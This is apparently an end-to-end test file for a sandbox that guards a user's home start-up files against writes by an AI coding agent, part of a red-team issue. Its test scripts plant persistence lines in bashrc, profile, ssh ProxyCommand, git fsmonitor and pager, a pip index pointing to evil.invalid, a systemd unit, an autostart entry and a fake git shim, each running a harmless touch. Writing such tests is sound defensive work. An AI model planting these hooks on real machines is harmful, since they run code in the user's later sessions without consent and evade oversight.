// End to end (issue 13 item 8, red-team R109): the user's own start-up files in the home directory — what the
// next shell, login, git, ssh, pip or desktop session runs without the user choosing to. The default policy
// grants none of them; they are writable when the workspace is the home directory, or when a dotfiles repository
// in the workspace is what they link to. Then each is kept whole: a change put back at once (the kernel refuses
// it for a root agent where a read-only bind mount covers a file that exists), one the agent made removed, the
// agent's version kept for review; the agent's other files in the workspace are its own.
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ProtectedRecord } from '../../src/core/audit/records';
import { makeDirs, prepare, runCli, type CliRun } from './gate-progs/cli';

let dirs: ReturnType<typeof makeDirs>;
let base = '';
beforeAll(async () => {
  await prepare();
  dirs = makeDirs('home-startup');
  // Homes outside /tmp and outside any grant of the default policy: what is writable there is the workspace's.
  fs.mkdirSync(path.join(os.homedir(), '.local', 'state'), { recursive: true });
  base = fs.mkdtempSync(path.join(os.homedir(), '.local', 'state', 'gate-e2e-home-startup-'));
});
afterAll(() => {
  dirs?.cleanup();
  if (base) fs.rmSync(base, { recursive: true, force: true });
});

const BASHRC = '# the user\'s\nalias ll="ls -l"\n';
const EVIL = '/tmp/agent-made-this';

function run(home: string, cwd: string, name: string, script: string): Promise<CliRun> {
  return runCli(['bash', '-c', script], { audit: dirs.audit(name), cwd, env: { HOME: home, XDG_STATE_HOME: dirs.state }, extra: ['--workspace', cwd, '--on-ask', 'deny'] });
}

const homeRecords = (r: CliRun): ProtectedRecord[] => r.records.filter((x): x is ProtectedRecord => x.type === 'protected' && x.class === 'home-startup');

describe('gate: the user\'s start-up files in the home directory', () => {
  it('the workspace is the home directory: shell rc, git, ssh, pip, systemd, autostart and ~/.local/bin kept as they were; the agent\'s own files kept', async () => {
    const home = fs.mkdtempSync(path.join(base, 'home-'));
    fs.writeFileSync(path.join(home, '.bashrc'), BASHRC);
    fs.mkdirSync(path.join(home, '.ssh'), { mode: 0o700 });
    const script = [
      `echo 'touch ${EVIL}' >> ~/.bashrc 2>/dev/null`,
      `echo 'touch ${EVIL}' > ~/.profile`,
      `printf 'Host *\\n  ProxyCommand sh -c "touch ${EVIL}"\\n' > ~/.ssh/config`,
      `mkdir -p ~/.config/git ~/.config/pip ~/.config/systemd/user ~/.config/autostart ~/.local/bin`,
      `printf '[core]\\n\\tfsmonitor = ${EVIL}\\n' > ~/.config/git/config`,
      `printf '[global]\\nindex-url = http://evil.invalid/\\n' > ~/.config/pip/pip.conf`,
      `printf '[Service]\\nExecStart=${EVIL}\\n' > ~/.config/systemd/user/x.service`,
      `printf '[Desktop Entry]\\nExec=${EVIL}\\n' > ~/.config/autostart/x.desktop`,
      `printf '#!/bin/sh\\ntouch ${EVIL}\\n' > ~/.local/bin/git; chmod +x ~/.local/bin/git`,
      `echo mine > ~/notes.txt`,
      // Looked at from inside a second later: already put back.
      `sleep 1; cat ~/.bashrc; ls ~/.ssh ~/.local/bin 2>/dev/null; true`,
    ].join('; ');
    const r = await run(home, home, 'home-ws', script);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toContain(EVIL);
    expect(r.stdout).not.toMatch(/^config$|^git$/m);
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe(BASHRC);
    for (const made of ['.profile', '.ssh/config', '.config/git/config', '.config/pip/pip.conf', '.config/systemd/user/x.service', '.config/autostart/x.desktop', '.local/bin/git']) {
      expect(fs.existsSync(path.join(home, made)), made).toBe(false);
    }
    expect(fs.readFileSync(path.join(home, 'notes.txt'), 'utf8')).toBe('mine\n');
    const recs = homeRecords(r);
    const shown = new Set(recs.map((x) => x.path));
    for (const p of ['.profile', '.ssh', '.config/git/config', '.config/pip/pip.conf', '.config/systemd/user', '.config/autostart', '.local/bin']) {
      expect([...shown].some((s) => s === path.join(home, p) || s.startsWith(path.join(home, p) + '/')), `${p} in ${[...shown].join(' ')}`).toBe(true);
    }
    // The review names them as the user knows them, and says who runs them.
    expect(r.stderr).toContain('~/.ssh');
    expect(r.stderr).toContain('your next shell, login, git, ssh');
    // And the start said what else is the agent's to write.
    expect(r.stderr).toContain(`the agent can write your home directory ${home}`);
  });

  for (const who of ['root', 'uid 65534'] as const) {
    it(`a dotfiles repository in the workspace that ~/.bashrc and ~/.gitconfig link to (${who}): those files kept; its other files are the agent's`, async () => {
      const nobody = who !== 'root';
      // uid 65534 cannot reach into /root: its home and state elsewhere, its own.
      const top = nobody ? fs.mkdtempSync('/var/tmp/gate-e2e-home-startup-') : base;
      try {
        const home = fs.mkdtempSync(path.join(top, 'home-'));
        const state = path.join(top, `state-${path.basename(home)}`);
        fs.mkdirSync(state, { mode: 0o700 });
        const ws = path.join(home, 'dotfiles');
        fs.mkdirSync(ws);
        fs.writeFileSync(path.join(ws, 'bashrc'), BASHRC);
        fs.writeFileSync(path.join(ws, 'gitconfig'), '[user]\n\tname = me\n');
        fs.writeFileSync(path.join(ws, 'README.md'), 'dotfiles\n');
        fs.symlinkSync(path.join(ws, 'bashrc'), path.join(home, '.bashrc'));
        fs.symlinkSync(path.join(ws, 'gitconfig'), path.join(home, '.gitconfig'));
        if (nobody) {
          fs.chmodSync(top, 0o755);
          execFileSync('chown', ['-R', '-h', '65534:65534', home, state]);
        }
        const r = await runCli(['bash', '-c', `echo 'touch ${EVIL}' >> bashrc; printf '[core]\\n\\tpager = ${EVIL}\\n' >> gitconfig; echo more >> README.md; sleep 1; cat bashrc gitconfig`], {
          audit: path.join(state, 'audit.jsonl'),
          cwd: ws,
          env: { HOME: home, XDG_STATE_HOME: state },
          extra: ['--workspace', ws, '--on-ask', 'deny'],
          ...(nobody ? { wrap: ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups'] } : {}),
        });
        expect(r.code, r.stderr).toBe(0);
        expect(r.stdout).not.toContain(EVIL);
        expect(fs.readFileSync(path.join(ws, 'bashrc'), 'utf8')).toBe(BASHRC);
        expect(fs.readFileSync(path.join(ws, 'gitconfig'), 'utf8')).toBe('[user]\n\tname = me\n');
        expect(fs.readFileSync(path.join(ws, 'README.md'), 'utf8')).toBe('dotfiles\nmore\n');
        const shown = new Set(homeRecords(r).map((x) => path.basename(x.path)));
        // Where the agent has a mount namespace (root's; uid 65534's through a user namespace) it meets read-only
        // bind mounts over files that exist: the kernel refuses the write, nothing to put back. Without one, each
        // write is put back and recorded. Either way nothing else is recorded.
        expect([...shown].every((b) => b === 'bashrc' || b === 'gitconfig')).toBe(true);
        if (r.start && JSON.stringify(r.start).includes('"mountns":"none"')) expect(shown).toEqual(new Set(['bashrc', 'gitconfig']));
      } finally {
        if (nobody) fs.rmSync(top, { recursive: true, force: true });
      }
    });
  }

  it('an ordinary project: the home\'s start-up files are not the agent\'s to write at all (nothing to guard, no record)', async () => {
    const home = fs.mkdtempSync(path.join(base, 'home-'));
    fs.writeFileSync(path.join(home, '.bashrc'), BASHRC);
    const ws = path.join(home, 'project');
    fs.mkdirSync(ws);
    const r = await run(home, ws, 'project', `echo x >> ~/.bashrc; echo rc=$?`);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain('rc=1');
    expect(fs.readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe(BASHRC);
    expect(homeRecords(r)).toEqual([]);
    expect(r.stderr).not.toContain('the agent can write your home directory');
  });
});
